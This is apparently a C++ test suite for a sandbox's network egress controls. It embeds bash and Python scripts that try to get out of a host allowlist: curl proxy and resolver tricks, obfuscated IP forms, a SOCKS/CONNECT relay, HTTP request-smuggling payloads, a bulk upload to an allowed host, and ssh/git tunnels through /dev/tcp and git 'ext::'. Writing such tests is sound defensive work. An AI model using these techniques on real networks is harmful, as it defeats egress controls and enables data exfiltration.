// SPDX-License-Identifier: Apache-2.0
// F: out over the network by what programs can be told to do: proxies, tunnels, requests that
// readers understand differently, and what is let out itself. Every packet is seen.
#include <sys/socket.h>

#include <atomic>
#include <nlohmann/json.hpp>

#include "tests/escape/scene.h"

namespace cellrun::test {
namespace {

using nlohmann::json;
using namespace std::string_literals;

constexpr char kSeen[] = "tcp [2001:db8:1::10]:443";

std::string LettingName(Scene& scene, const std::string& more = "") {
  return scene.Profile("  rules: [{to: ok.example.com, ports: [443], then: allow}]\n" + more);
}

// ---- F7: options and variables that say where to go.

void ProxyEvasion(Escape& escape) {
  Scene scene(escape);
  constexpr char kScript[] =
      "e=203.0.113.66 ok=http://ok.example.com:443/\n"
      "get() { curl -s -m 2 -o /dev/null \"$@\" || true; }\n"
      "get --noproxy '*' http://$e:443/\n"
      "http_proxy=http://$e:3128 get $ok; HTTPS_PROXY=http://$e:3128 get "
      "https://ok.example.com:443/\n"
      "ALL_PROXY=socks5h://$e:1080 get $ok; NO_PROXY='*' get http://$e:80/\n"
      "get --proxy http://$e:8080 $ok; get --preproxy socks5://$e:1080 $ok\n"
      "get --socks4a $e:1080 $ok; get --proxytunnel --proxy http://$e:8081 $ok\n"
      "get --resolve ok.example.com:443:$e $ok; get --connect-to ::$e:443 $ok\n"
      "get --doh-url https://$e/dns-query $ok; get --interface 203.0.113.9 http://$e/\n"
      "get --local-port 443 http://$e:443/; get --tcp-fastopen http://$e:443/\n"
      "get ftp://$e/; get telnet://$e:23 </dev/null; get tftp://$e/x; get gopher://$e/\n"
      "get 'http://[2001:db8:1::66]:443/'; get http://3405803842:443/; get http://0xcb.0.0x71.66/\n"
      "if [ -n \"$CELLRUN\" ]; then get $ok; fi\n"
      "exit 11\n";
  scene.Try({.argv = {"bash", "-c", kScript}, .profile = LettingName(scene)});
  scene.ExpectSent(kSeen);
}

// ---- F10: a host by five paths, four of which a relay in the cell takes.

void FivePaths(Escape& escape) {
  Scene scene(escape, Server::Say("G"));
  constexpr char kScript[] =
      "import threading\n"
      "mine = 'CELLRUN' in os.environ\n"
      "def dial(host, port):\n"
      "  s = socket.create_connection((host, port), None if mine else 2); s.settimeout(5); return "
      "s\n"
      "def pump(a, b):\n"
      "  try:\n"
      "    while True:\n"
      "      d = a.recv(4096)\n"
      "      if not d: break\n"
      "      b.sendall(d)\n"
      "  except OSError: pass\n"
      "  b.close()\n"
      "def serve(s, raw):\n"
      "  try:\n"
      "    if raw: host, port = raw\n"
      "    else:\n"
      "      f = s.makefile('rb', 0); first = f.read(1)\n"
      "      if first == b'\\5':\n"
      "        f.read(f.read(1)[0]); s.sendall(b'\\5\\0'); f.read(4)\n"
      "        host = f.read(f.read(1)[0]).decode(); port = struct.unpack('>H', f.read(2))[0]\n"
      "      else:\n"
      "        line = first\n"
      "        while not line.endswith(b'\\r\\n\\r\\n'): line += f.read(1)\n"
      "        target = line.split()[1].decode().replace('http://', '').rstrip('/')\n"
      "        host, port = target.rsplit(':', 1); host = host.strip('[]'); port = int(port)\n"
      "    pump(dial(host, port), s)\n"
      "  except (OSError, UnicodeError): s.close()\n"
      "def listen(raw=None):\n"
      "  l = socket.create_server(('127.0.0.1', 0))\n"
      "  def run():\n"
      "    while True: threading.Thread(target=serve, args=(l.accept()[0], raw), "
      "daemon=True).start()\n"
      "  threading.Thread(target=run, daemon=True).start(); return l.getsockname()\n"
      "proxy = listen()\n"
      "def bracket(h): return '[' + h + ']' if ':' in h else h\n"
      "def through(text):\n"
      "  s = socket.create_connection(proxy); s.settimeout(5); s.sendall(text); return s\n"
      "def socks(h):\n"
      "  s = through(b'\\5\\1\\0'); s.recv(2)\n"
      "  s.sendall(b'\\5\\1\\0\\3' + bytes([len(h)]) + h.encode() + struct.pack('>H', 443)); "
      "return s\n"
      "def relay(h):\n"
      "  s = socket.create_connection(listen((h, 443))); s.settimeout(5); return s\n"
      "paths = [lambda h: dial(h, 443), socks, relay,\n"
      "  lambda h: through(f'CONNECT {bracket(h)}:443 HTTP/1.1\\r\\n\\r\\n'.encode()),\n"
      "  lambda h: through(f'GET http://{bracket(h)}:443/ HTTP/1.1\\r\\n\\r\\n'.encode())]\n"
      "def reached(path, host):\n"
      "  try: return path(host).recv(1) == b'G'\n"
      "  except (OSError, UnicodeError): return False\n"
      "hosts = ['203.0.113.66', '203.0.113.10', '2001:db8:1::66', '::ffff:203.0.113.66', "
      "'3405803842',\n"
      "  '0xcb007142', '0313.0.0161.0102', '203.0.28994', '64:ff9b::cb00:7142', "
      "'2002:cb00:7142::1']\n"
      "if mine: hosts += ['ok.example.com', 'OK.example.com.', 'evil.example.com', 'example.com',\n"
      "  'www.ok.example.com', 'ok.example.com.evil.com', 'evilok.example.com', 'localhost', "
      "'host',\n"
      "  '198.18.0.1', '198.18.0.3', 'fd63:656c:6c72:ffff::3', '169.254.169.254', '127.0.0.1',\n"
      "  '10.0.0.1', '::1', '0.0.0.0', 'ok.example.com\\0.evil.com', 'ok.example.com:80', '[::]']\n"
      "differ = 0\n"
      "for host in hosts:\n"
      "  all = [reached(path, host) for path in paths]; print(repr(host), all)\n"
      "  differ += len(set(all)) > 1\n"
      "sys.exit(10 if differ else 11)\n";
  scene.Try({.argv = PythonAttack(kScript), .profile = LettingName(scene)});
  scene.ExpectSent(kSeen);
}

// ---- F11: nobody between the cell and the world reads requests, so that nobody misreads them.

void Smuggled(Escape& escape) {
  Scene scene(escape, Server::Echo);
  constexpr char kScript[] =
      "evil = b'GET http://203.0.113.66/ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'\n"
      "corpus = [evil, evil * 3, b'CONNECT 203.0.113.66:443 HTTP/1.1\\r\\n\\r\\n' + evil,\n"
      "  b'POST / HTTP/1.1\\r\\nHost: ok.example.com\\r\\nContent-Length: 4\\r\\n'\n"
      "  b'Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n' + evil,\n"
      "  b'POST / HTTP/1.1\\r\\nContent-Length: 0\\r\\nContent-Length: 44\\r\\n\\r\\n' + evil,\n"
      "  b'GET / HTTP/1.1\\nHost: ok.example.com\\n\\n' + evil,\n"
      "  b'GET / HTTP/1.1\\r\\nHost: ok.example.com\\r\\n evil.example.com\\r\\n\\r\\n',\n"
      "  b'GET / HTTP/1.1\\r\\nHost : evil.example.com\\r\\nHost: ok.example.com\\r\\n\\r\\n',\n"
      "  b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + bytes(9) + evil,\n"
      "  b'GET / HTTP/1.1\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\n\\r\\n' "
      "+ evil,\n"
      "  b'GET / HTTP/1.1\\r\\nUpgrade: websocket\\r\\n\\r\\n' + evil, b'\\0' * 70000 + evil,\n"
      "  b'\\5\\1\\0\\5\\1\\0\\1\\xcb\\0\\x71\\x42\\1\\xbb', "
      "b'\\4\\1\\1\\xbb\\xcb\\0\\x71\\x42\\0',\n"
      "  b'PROXY TCP4 203.0.113.66 203.0.113.66 1 443\\r\\n', bytes(range(256)) * 300]\n"
      "for text in corpus:\n"
      "  s = socket.create_connection(('ok.example.com', 443)); s.settimeout(20)\n"
      "  s.sendall(text); s.shutdown(socket.SHUT_WR); got = b''\n"
      "  while True:\n"
      "    part = s.recv(65536)\n"
      "    if not part: break\n"
      "    got += part\n"
      "  if got != text: print('changed', text[:40], got[:40]); sys.exit(10)\n"
      "print(len(corpus), 'unchanged')\n";
  scene.Try(
      {.argv = PythonAttack(kScript), .profile = LettingName(scene), .bare = Shown::kAimsAtCell});
  EXPECT_EQ(scene.web().accepted(), 16);
  scene.ExpectSent(kSeen);
}

// What a proxy that the operator has named answers, in turn.
void ProxyReplies(Escape& escape) {
  static const std::vector<std::string> kReplies = {
      "HTTP/1.1 302 elsewhere\r\nLocation: http://203.0.113.66/\r\n\r\n",
      "HTTP/1.1 305 by\r\nLocation: http://203.0.113.66:3128\r\n\r\n",
      "HTTP/1.1 101 now\r\nUpgrade: smuggled\r\n\r\nsmuggled",
      "HTTP/1.1 200 ok\nX: y\n\nsmuggled",
      "HTTP/1.1 2000 ok\r\n\r\nsmuggled",
      "HTTP/1.1 200 ok\r\n folded: x\r\n\r\nsmuggled",
      "HTTP/1.1 200 ok\r\nTransfer-Encoding: chunked\r\nContent-Length: 8\r\n : x\r\n\r\nsmuggled",
      "HTTP/1.1 200 ok\r\n" + std::string(9000, 'x') + "\r\n\r\nsmuggled",
      "HTTP/1.1 403 no\r\n\r\nHTTP/1.1 200 ok\r\n\r\nsmuggled",
      "HTTP/0.9 200 ok\r\n\r\nsmuggled",
      "\x05\x00smuggled"s,
      "smuggled\r\n\r\n",
      ""};
  static std::atomic<std::size_t> turn;
  turn = 0;
  Scene scene(escape, [](int fd) {
    std::string head;
    char byte = 0;
    while (!head.ends_with("\r\n\r\n") && recv(fd, &byte, 1, 0) == 1) head += byte;
    const std::size_t at = turn++;
    if (at >= kReplies.size()) return;
    (void)send(fd, kReplies[at].data(), kReplies[at].size(), MSG_NOSIGNAL);
  });
  scene.Try({.argv = PythonAttack("got = b''\n"
                                  "for _ in range(int(sys.argv[1])):\n"
                                  "  try:\n"
                                  "    s = socket.socket(); s.connect(('ok.example.com', 443))\n"
                                  "    s.settimeout(20); got += s.recv(100)\n"
                                  "  except OSError as e: print(e)\n"
                                  "print(got)\n"
                                  "if b'smuggled' in got: sys.exit(10)\n",
                                  {std::to_string(kReplies.size())}),
             .profile = LettingName(scene, "  upstream-proxy: 'http://203.0.113.10:443'\n"),
             .bare = Shown::kAimsAtCell});
  EXPECT_EQ(turn.load(), kReplies.size()) << "each of them was answered";
  scene.ExpectSent("tcp 203.0.113.10:443");
}

// ---- F16: what is let out may be used to send anything there. It is on record, with its bytes.

void Upload(Escape& escape) {
  std::atomic<long> came{0};
  Scene scene(escape, [&came](int fd) {
    std::vector<char> bytes(65536);
    for (;;) {
      const ssize_t got = recv(fd, bytes.data(), bytes.size(), 0);
      if (got <= 0) return;
      came += got;
    }
  });
  constexpr long kBytes = 1L << 20;
  const auto upload = [](const char* host) {
    return PythonAttack(
        "s = socket.create_connection((sys.argv[1], 443))\n"
        "s.sendall(b's' * (1 << 20)); s.shutdown(socket.SHUT_WR); s.recv(1)\n",
        {host});
  };
  escape.ShownBare(Shown::kSucceeds);
  EXPECT_EQ(escape.Bare(upload(Scene::kGood)).status, 11);
  escape.MustWin(came == kBytes, std::to_string(came));
  const Outcome cell = escape.Run(upload("ok.example.com"), escape.Using(LettingName(scene)));
  EXPECT_EQ(cell.status, 11) << cell;
  EXPECT_EQ(came, 2 * kBytes) << "a rule about a name says nothing of what is sent there";
  long recorded = 0;
  for (const json& record : escape.History()) {
    if (record.value("kind", "") != "connect" || record.value("name", "") != "ok.example.com")
      continue;
    EXPECT_NE(record.value("exe", "").find("python3"), std::string::npos) << record;
    recorded += record.value("bytes_out", 0L);
  }
  escape.Note(std::to_string(recorded) + " bytes on record");
  escape.MustHold(recorded != kBytes, std::to_string(recorded) + " bytes of " +
                                          std::to_string(kBytes) + " are on record");
  EXPECT_EQ(scene.Strays(), "");
}

// ---- F21: an allowed host as the way to others.

void Tunnels(Escape& escape) {
  Scene scene(escape, Server::Say("SSH-2.0-lab\r\n"));
  constexpr char kScript[] =
      "e=203.0.113.66 good=203.0.113.10\n"
      "[ -z \"$CELLRUN\" ] || good=ok.example.com\n"
      "go() { timeout 5 ssh -F none -p 443 -o BatchMode=yes -o StrictHostKeyChecking=no \\\n"
      "  -o UserKnownHostsFile=/dev/null -o ConnectTimeout=2 \"$@\" </dev/null; }\n"
      "go -J x@$e:443 x@$good\n"
      "go -o ProxyJump=x@$good:443 x@$e\n"
      "go -o ProxyCommand=\"bash -c 'exec 3<>/dev/tcp/$e/443; cat <&3'\" x@$good\n"
      "go -o HostName=$e x@$good\n"
      "go -W $e:443 x@$good\n"
      "go -D 127.0.0.1:10800 -L 127.0.0.1:10801:$e:443 -N -o ExitOnForwardFailure=yes x@$good\n"
      "GIT_SSH_COMMAND='ssh -F none -o BatchMode=yes -o ConnectTimeout=2' timeout 5 \\\n"
      "  git ls-remote ssh://x@$e:443/repository </dev/null\n"
      "timeout 5 git -c http.proxy=http://$e:3128 ls-remote http://ok.example.com:443/x "
      "</dev/null\n"
      "timeout 5 git -c protocol.ext.allow=always ls-remote 'ext::bash -c "
      "cat%</dev/tcp/203.0.113.66/443'\n"
      "exit 11\n";
  scene.Try({.argv = {"bash", "-c", kScript}, .profile = LettingName(scene)});
  scene.ExpectSent(kSeen);
}

const Case kCases[] = {
    {"F7", "proxy_evasion", "options and variables that lead past a proxy or through one",
     ProxyEvasion},
    {"F10", "five_paths", "30 hosts directly and by relays in the cell", FivePaths},
    {"F11", "smuggled", "requests that readers understand differently", Smuggled},
    {"F11", "proxy_replies", "a proxy whose answers lead elsewhere or carry more", ProxyReplies},
    {"F16", "upload", "send data to a host that is let out", Upload},
    {"F21", "tunnels", "jump, forward and proxy by ssh and git", Tunnels},
};
ESCAPE_SUITE(ClientAttackTest, kCases);

}  // namespace
}  // namespace cellrun::test
